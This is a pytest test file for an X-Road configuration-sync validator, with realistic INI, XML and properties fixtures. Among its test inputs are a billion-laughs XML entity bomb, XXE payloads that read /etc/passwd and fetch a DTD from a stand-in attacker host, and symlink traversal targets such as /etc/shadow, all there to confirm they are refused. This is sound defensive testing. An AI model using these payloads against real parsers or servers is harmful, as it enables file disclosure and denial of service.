"""Tests for syncagent.validate: the gate between a staged candidate tree and /etc/xroad.

Fixture content is modelled on a real security server's /etc/xroad (inline comments, quoted
values, ';' comments, a comment-only devices.ini, a namespaced keyconf.xml, a jetty config
with a DOCTYPE), because the validator must never reject a tree X-Road itself accepts.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from syncagent.errors import Problem, Reason
from syncagent.validate import (
    REQUIRED_XROAD_PATHS,
    check_name,
    check_node_is_secondary,
    check_symlink,
    missing_required,
    softtoken_key_ids,
    validate_bash,
    validate_ini,
    validate_json,
    validate_properties,
    validate_tree,
    validate_xml,
)

AUTH_KEY = "DF9242D3CBDE6DAC8058D2878340C3B527041FD0"
SIGN_KEY = "1342B84B4829BB79226AB268B4D8E70B01068613"
HSM_KEY = "0A1B2C3D4E5F60718293A4B5C6D7E8F901234567"
DB_PASSWORD = "Zq7-db-Secret!pw"

LOCAL_INI = b"""\
[proxy-ui-api]
rate-limit-enabled=true
wsdl-validator-command = /usr/share/xroad/wsdlvalidator/bin/wsdlvalidator_wrapper.sh
[proxy]
backup-encryption-enabled = true
backup-encryption-keyids = "backup.key1@example.org, backup.key2@example.org"
ssl-enabled=false # Can be removed once UI system tests configure a functional AUTH certificate
health-check-port=5588
[message-log]
messagelog-keystore-password=somepassword
archive-interval=0 0 0/6 1/1 * ? *
archive-transfer-command=
[signer]
ocsp-prioritization-strategy=ONLY_FREE
# we shorten here messages processing from 1 min to 1 second
[op-monitor]
records-available-timestamp-offset-seconds=1
"""

PROXY_INI = b"""\
; Main security server configuration file. Contains configuration entries
; for each component.

; =============================================================================
; Configuration parameters for Client and Server Proxy.
[proxy]

; Listen address of Client Proxy
connector-host=0.0.0.0

; Client Proxy to Server Proxy connection timeout in milliseconds
client-timeout=30000

; Location of the downloaded configuration
configuration-path=/etc/xroad/globalconf/
"""

DEVICES_INI = b"""\
; This configuration file defines the available Secure Signature
; Creation Devices (SSCD).
;
; SSCD devices are configured as follows:
; [device_uid]
; token_id_format = STRING (optional, default: {moduleType}{slotIndex}{serialNumber}{label})

;[hsm_utimaco_se52]
;library = /usr/local/lib/libcs_pkcs11_R2.so
;token_id_format = {moduleType}{slotIndex}{label}
"""

KEYCONF_XML = f"""\
<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<ns3:keyConf xmlns:ns2="http://x-road.eu/xsd/identifiers" xmlns:ns3="http://x-road.eu/xsd/xroad.xsd">
    <device>
        <deviceType>softToken</deviceType>
        <friendlyName>softToken-0</friendlyName>
        <id>0</id>
        <pinIndex>0</pinIndex>
        <key usage="AUTHENTICATION">
            <friendlyName>Auth key</friendlyName>
            <label>Auth key</label>
            <keyId>{AUTH_KEY}</keyId>
            <publicKey>MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEApp1Ls34vBfJkD2bHtmnvb1Hx</publicKey>
            <cert active="true" id="5BC622B62052EE89F2020C2FA91872CB49EB1502">
                <contents>MIIEXzCCAkegAwIBAgIBAzANBgkqhkiG9w0BAQsFADAhMQ0wCwYDVQQKDARUZXN0</contents>
                <status>registered</status>
            </cert>
            <signMechanismName>CKM_RSA_PKCS</signMechanismName>
        </key>
        <key usage="SIGNING">
            <friendlyName>Sign key</friendlyName>
            <label>Sign key</label>
            <keyId>{SIGN_KEY}</keyId>
            <cert active="true" id="15A0AFEE2602D2846621118997E268F5FA843C94">
                <memberId ns2:objectType="MEMBER">
                    <ns2:xRoadInstance>DEV</ns2:xRoadInstance>
                    <ns2:memberClass>COM</ns2:memberClass>
                    <ns2:memberCode>1234</ns2:memberCode>
                </memberId>
                <status>registered</status>
            </cert>
            <signMechanismName>CKM_RSA_PKCS</signMechanismName>
        </key>
    </device>
    <device>
        <deviceType>hsm_utimaco_se52</deviceType>
        <id>hsm-1</id>
        <key usage="SIGNING">
            <keyId>{HSM_KEY}</keyId>
        </key>
    </device>
</ns3:keyConf>
""".encode()

LOGBACK_XML = b"""\
<configuration>
    <property file="/etc/xroad/conf.d/variables-logback.properties" />
    <appender name="CONSOLE" class="ch.qos.logback.core.ConsoleAppender">
        <encoder>
            <pattern>%d{"yyyy-MM-dd'T'HH:mm:ss.SSSXXX"} %level [${XROAD_LOG_LEVEL}] %msg%n</pattern>
        </encoder>
    </appender>
    <root level="${XROAD_ROOT_LOG_LEVEL:-WARN}">
        <appender-ref ref="CONSOLE" />
    </root>
</configuration>
"""

JETTY_XML = b"""\
<?xml version="1.0"?>
<!DOCTYPE Configure PUBLIC "-//Jetty//Configure//EN" "http://www.eclipse.org/jetty/configure_10_0.dtd">
<Configure id="Server" class="org.eclipse.jetty.server.Server">
    <Get name="ThreadPool">
        <Set name="maxThreads" type="int">500</Set>
    </Get>
</Configure>
"""

DB_PROPERTIES = f"""\
serverconf.hibernate.connection.url = jdbc:postgresql://xrd-db:5432/xrd_ss
serverconf.hibernate.connection.username=xrd
serverconf.hibernate.connection.password={DB_PASSWORD}
""".encode()

LOGBACK_PROPERTIES = b"XROAD_LOG_LEVEL=INFO\nXROAD_ROOT_LOG_LEVEL=WARN\n"

LOCAL_CONF = b"""\
# Local overrides sourced by the X-Road service launchers (bash syntax).
XROAD_PROXY_PARAMS="$XROAD_PROXY_PARAMS -Xmx1536m"
XROAD_SIGNER_PARAMS="$XROAD_SIGNER_PARAMS -Xmx256m"
"""

BILLION_LAUGHS = b"""\
<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

GOOD_TREE: dict[str, bytes] = {
    "VERSION": b"7.6.2\n",
    "conf.d/local.ini": LOCAL_INI,
    "conf.d/proxy.ini": PROXY_INI,
    "conf.d/addons/message-log.ini": b"; message log\n[message-log]\nkeep-records-for=30\n",
    "conf.d/proxy-logback.xml": LOGBACK_XML,
    "conf.d/variables-logback.properties": LOGBACK_PROPERTIES,
    "devices.ini": DEVICES_INI,
    "db.properties": DB_PROPERTIES,
    "jetty/serverproxy.xml": JETTY_XML,
    "services/local.conf": LOCAL_CONF,
    "services/local.properties": b"XROAD_SIGNER_PARAMS=-Xmx256m\n",
    "signer/keyconf.xml": KEYCONF_XML,
    f"signer/softtoken/{AUTH_KEY}.p12": b"\x30\x82\x0a\x03 not checked",
    f"signer/softtoken/{SIGN_KEY}.p12": b"\x30\x82\x0a\x03 not checked",
    "signer/softtoken/.softtoken.p12": b"\x30\x82\x09\xff",
    "ssl/internal.crt": b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
    "backup.d/10_xroad-confclient": b"",
    "metadata.json": b'{"contentIdentifier": "PRIVATE-PARAMETERS", "expirationDate": null}',
}

needs_bash = pytest.mark.skipif(shutil.which("bash") is None, reason="bash not installed")


def lay_out(root: Path, files: dict[str, bytes]) -> list[str]:
    for rel, data in files.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    return list(files)


def run_tree(root: Path, files: dict[str, bytes], *, xroad: bool = True) -> list[Problem]:
    return validate_tree(root, lay_out(root, files), xroad=xroad)


def replaced(rel: str, data: bytes) -> dict[str, bytes]:
    return {**GOOD_TREE, rel: data}


# --------------------------------------------------------------------------- whole tree


@needs_bash
def test_realistic_tree_passes(tmp_path: Path) -> None:
    assert run_tree(tmp_path, GOOD_TREE) == []


@pytest.mark.parametrize(
    ("check", "data"),
    [
        (validate_ini, LOCAL_INI),
        (validate_ini, PROXY_INI),
        (validate_ini, DEVICES_INI),
        (validate_ini, b""),
        (validate_ini, b"[node]\ntype = slave\n"),
        (validate_xml, KEYCONF_XML),
        (validate_xml, LOGBACK_XML),
        (validate_xml, JETTY_XML),
        (validate_properties, DB_PROPERTIES),
        (validate_properties, LOGBACK_PROPERTIES),
        (validate_json, GOOD_TREE["metadata.json"]),
    ],
)
def test_good_content_passes(check: Callable[[bytes], str | None], data: bytes) -> None:
    assert check(data) is None


@pytest.mark.parametrize(
    ("rel", "data", "message"),
    [
        ("conf.d/local.ini", b"[proxy]\na=1\n[broken\nb=2\n", "line 3: malformed [section] header"),
        (
            "conf.d/local.ini",
            b"; comment\n\nhealth-check-port=5588\n[proxy]\n",
            "line 3: key before any [section] header",
        ),
        (
            "conf.d/proxy.ini",
            b"[proxy]\nclient-timeout=1\nthis is not an ini line\n",
            "line 3: not a [section], key = value, comment or blank line",
        ),
        ("devices.ini", b"; ok\n[dev]\nlibrary=\xff\xfe.so\n", "line 3: not valid UTF-8"),
        ("metadata.json", b'{"a": 1,}', "Expecting property name enclosed in double quotes"),
    ],
)
def test_bad_file_gives_exactly_one_problem(
    tmp_path: Path, rel: str, data: bytes, message: str
) -> None:
    problems = validate_tree(tmp_path, lay_out(tmp_path, replaced(rel, data)), xroad=True)
    assert len(problems) == 1
    assert problems[0].path == rel
    assert problems[0].message.startswith(message)
    assert problems[0].reason is Reason.VALIDATION


def test_xml_not_well_formed_names_file_and_position(tmp_path: Path) -> None:
    bad = b"<configuration>\n  <root level='WARN'>\n</configuration>\n"
    problems = run_tree(tmp_path, replaced("conf.d/proxy-logback.xml", bad))
    assert problems == [Problem("conf.d/proxy-logback.xml", "mismatched tag: line 3, column 2")]


def test_entity_bomb_is_refused_without_expansion(tmp_path: Path) -> None:
    # Expanding lol9 would take ~3 GB; returning at all shows nothing was expanded:
    # the DOCTYPE with an internal subset is refused before any entity is declared.
    problems = run_tree(tmp_path, replaced("configuration-anchor.xml", BILLION_LAUGHS))
    assert len(problems) == 1
    assert problems[0].path == "configuration-anchor.xml"
    assert problems[0].message.startswith("DTD internal subset refused: line 2")


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<x>&e;</x>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>',
        b"<!DOCTYPE x [<!ELEMENT x ANY>]><x/>",
        b"<x>&undeclared;</x>",
        b"",
        b"<a>\xff</a>",
    ],
)
def test_xml_with_dtd_subset_entities_or_garbage_is_refused(data: bytes) -> None:
    assert validate_xml(data) is not None


def test_xml_keyconf_missing_p12(tmp_path: Path) -> None:
    files = dict(GOOD_TREE)
    del files[f"signer/softtoken/{SIGN_KEY}.p12"]
    problems = run_tree(tmp_path, files)
    assert problems == [
        Problem(
            "signer/keyconf.xml",
            f"softToken key {SIGN_KEY} has no signer/softtoken/{SIGN_KEY}.p12",
        )
    ]


def test_keyconf_check_only_for_xroad_trees(tmp_path: Path) -> None:
    files = dict(GOOD_TREE)
    del files[f"signer/softtoken/{SIGN_KEY}.p12"]
    assert validate_tree(tmp_path, lay_out(tmp_path, files), xroad=False, run_bash=False) == []


def test_invalid_keyconf_reported_once(tmp_path: Path) -> None:
    problems = run_tree(tmp_path, replaced("signer/keyconf.xml", b"<ns3:keyConf>"))
    assert [p.path for p in problems] == ["signer/keyconf.xml"]


def test_softtoken_key_ids_match_local_names_and_skip_hsm() -> None:
    assert softtoken_key_ids(KEYCONF_XML) == [AUTH_KEY, SIGN_KEY]


def test_softtoken_key_ids_without_softtoken_device() -> None:
    assert (
        softtoken_key_ids(b"<keyConf><device><deviceType>x</deviceType></device></keyConf>") == []
    )


# --------------------------------------------------------------------------- bash


@needs_bash
def test_bash_syntax_error_in_services_local_conf(tmp_path: Path) -> None:
    bad = b'SECRET_TOKEN="hunter2"\nif [ -n "$SECRET_TOKEN" ]; then\n  X=1\nfi fi\n'
    problems = run_tree(tmp_path, replaced("services/local.conf", bad))
    assert problems == [
        Problem(
            "services/local.conf",
            "services/local.conf: line 4: syntax error near unexpected token `fi'",
        )
    ]
    assert str(tmp_path) not in problems[0].message


@needs_bash
def test_bash_checks_only_direct_children_of_services(tmp_path: Path) -> None:
    files = {**GOOD_TREE, "services/sub/x.conf": b"fi fi\n", "conf.d/x.conf": b"fi fi\n"}
    assert run_tree(tmp_path, files) == []


def test_run_bash_false_skips_bash(tmp_path: Path) -> None:
    paths = lay_out(tmp_path, replaced("services/local.conf", b"fi fi\n"))
    assert validate_tree(tmp_path, paths, xroad=True, run_bash=False) == []


@needs_bash
def test_validate_bash_direct(tmp_path: Path) -> None:
    good = tmp_path / "good.conf"
    good.write_bytes(LOCAL_CONF)
    bad = tmp_path / "bad.conf"
    bad.write_bytes(b'X="unterminated\n')
    assert validate_bash(good) is None
    message = validate_bash(bad)
    assert message is not None
    assert "line 1" in message
    assert len(message) <= 510


# --------------------------------------------------------------------------- INI details


def test_ini_accepts_repeated_keys_sections_and_percent() -> None:
    data = b"[proxy]\na=1\na=2\nfmt=%d{yyyy} ${X} %%\n[signer]\nk=v\n[proxy]\nb : 3\n"
    assert validate_ini(data) is None


def test_ini_accepts_backslash_continuation() -> None:
    assert validate_ini(b"[proxy]\nclient-tls-ciphers=A,\\\n  B,\\\n  C\n") is None


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"[proxy]\n[]\n", "line 2: malformed [section] header"),
        (b"[proxy] trailing\n", "line 1: malformed [section] header"),
        (b"[proxy]\n= value\n", "line 2: empty key"),
    ],
)
def test_ini_rejections(data: bytes, message: str) -> None:
    assert validate_ini(data) == message


def test_ini_messages_do_not_quote_content() -> None:
    data = LOCAL_INI + b"messagelog-keystore-password somepassword\n"
    message = validate_ini(data)
    assert message is not None
    assert "somepassword" not in message


# --------------------------------------------------------------------------- properties


def test_properties_forms_accepted() -> None:
    data = (
        b"# comment\n! bang comment\na=1\nb = 2\nc: 3\nd 4\n"
        b"long = one, \\\n    two\n\xe9t\xe9=latin-1\n[database-properties]\n"
    )
    assert validate_properties(data) is None


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"a=1\n=no key\n", "line 2: empty key"),
        (b"a=1\n  : no key\n", "line 2: empty key"),
        (b"a=1\nb=\x00\n", "line 2: NUL byte"),
    ],
)
def test_properties_rejections(data: bytes, message: str) -> None:
    assert validate_properties(data) == message


def test_db_properties_messages_never_contain_the_password(tmp_path: Path) -> None:
    broken = [
        DB_PROPERTIES + b"=" + DB_PASSWORD.encode() + b"\n",
        DB_PROPERTIES.replace(DB_PASSWORD.encode(), DB_PASSWORD.encode() + b"\x00"),
        b"=" + DB_PASSWORD.encode() + b"\n",
    ]
    for data in broken:
        problems = run_tree(tmp_path, replaced("db.properties", data))
        assert [p.path for p in problems] == ["db.properties"]
        assert DB_PASSWORD not in str(problems[0])


# --------------------------------------------------------------------------- JSON


@pytest.mark.parametrize("data", [b"{", b"", b'{"a": 1} x', b'"\xff"'])
def test_json_rejections(data: bytes) -> None:
    assert validate_json(data) is not None


# --------------------------------------------------------------------------- names


@pytest.mark.parametrize("name", ["..", ".", "a/b", "x\x00", "x\n", "x\x7f", b"\xff", "", b""])
def test_unsafe_names(name: str | bytes) -> None:
    assert check_name(name) is not None


@pytest.mark.parametrize(
    "name",
    ["keyconf.xml", ".softtoken.p12", f"{AUTH_KEY}.p12", "tmpconf123456.tmp", "ä" * 127, b"ok"],
)
def test_safe_names(name: str | bytes) -> None:
    assert check_name(name) is None


def test_name_length_limit_is_in_bytes() -> None:
    assert check_name("a" * 255) is None
    assert check_name("a" * 256) is not None
    assert check_name("ä" * 128) is not None  # 256 bytes in UTF-8


# --------------------------------------------------------------------------- symlinks


@pytest.mark.parametrize(
    ("path", "target"),
    [
        ("conf.d/x", "/etc/shadow"),
        ("conf.d/x", "../../etc/shadow"),
        ("x", "a/../../x"),
        ("conf.d/x", "a/../../x"),
        ("x", ".."),
        ("x", "."),
        ("conf.d/x", "x"),
        ("conf.d/x", "ok\x00"),
        ("conf.d/x", "ok\n"),
        ("conf.d/x", ""),
    ],
)
def test_symlink_refused(path: str, target: str) -> None:
    assert check_symlink(path, target) is not None


@pytest.mark.parametrize(
    ("path", "target"),
    [("conf.d/x", "../VERSION"), ("signer/a", "softtoken/k.p12"), ("a", "./VERSION")],
)
def test_symlink_accepted(path: str, target: str) -> None:
    assert check_symlink(path, target) is None


def test_symlink_must_resolve_into_tree_when_paths_given() -> None:
    tree = frozenset({"VERSION", "conf.d", "conf.d/x"})
    assert check_symlink("conf.d/x", "../VERSION", tree) is None
    assert check_symlink("conf.d/x", "../missing", tree) is not None


# --------------------------------------------------------------------------- node type


@pytest.mark.parametrize(
    "data",
    [
        b"[node]\ntype=slave\n",
        b"[node]\ntype = secondary\n",
        b"[node]\ntype = slave # set by the secondary image\n",
        b"; node-local\n[node]\ntype = SLAVE ; comment\n",
        b'[node]\ntype = "slave"\n',
    ],
)
def test_node_is_secondary(data: bytes) -> None:
    assert check_node_is_secondary(data) is None


@pytest.mark.parametrize("value", ["master", "primary", "Master"])
def test_node_is_primary(value: str) -> None:
    message = check_node_is_secondary(f"[node]\ntype = {value}\n".encode())
    assert message == f"this node is '{value}': refusing to overwrite a primary"


def test_node_ini_missing() -> None:
    assert (
        check_node_is_secondary(None)
        == "conf.d/node.ini missing: cannot confirm this node is a secondary"
    )


@pytest.mark.parametrize(
    "data",
    [
        b"\x00\xff\xfegarbage",
        b"hello world\n",
        b"",
        b"[other]\ntype=slave\n",
        b"[node]\nkind=slave\n",
        b"[node]\ntype = standalone\n",
    ],
)
def test_node_ini_garbage_refused(data: bytes) -> None:
    message = check_node_is_secondary(data)
    assert message is not None


# --------------------------------------------------------------------------- required paths


def test_missing_required() -> None:
    assert REQUIRED_XROAD_PATHS == ("conf.d", "signer/keyconf.xml")
    assert missing_required(["signer/keyconf.xml"], ["conf.d", "signer"]) == []
    assert missing_required([], []) == ["conf.d", "signer/keyconf.xml"]
    # conf.d must be a directory and keyconf a file, not the other way round
    assert missing_required(["conf.d"], ["signer/keyconf.xml"]) == [
        "conf.d",
        "signer/keyconf.xml",
    ]
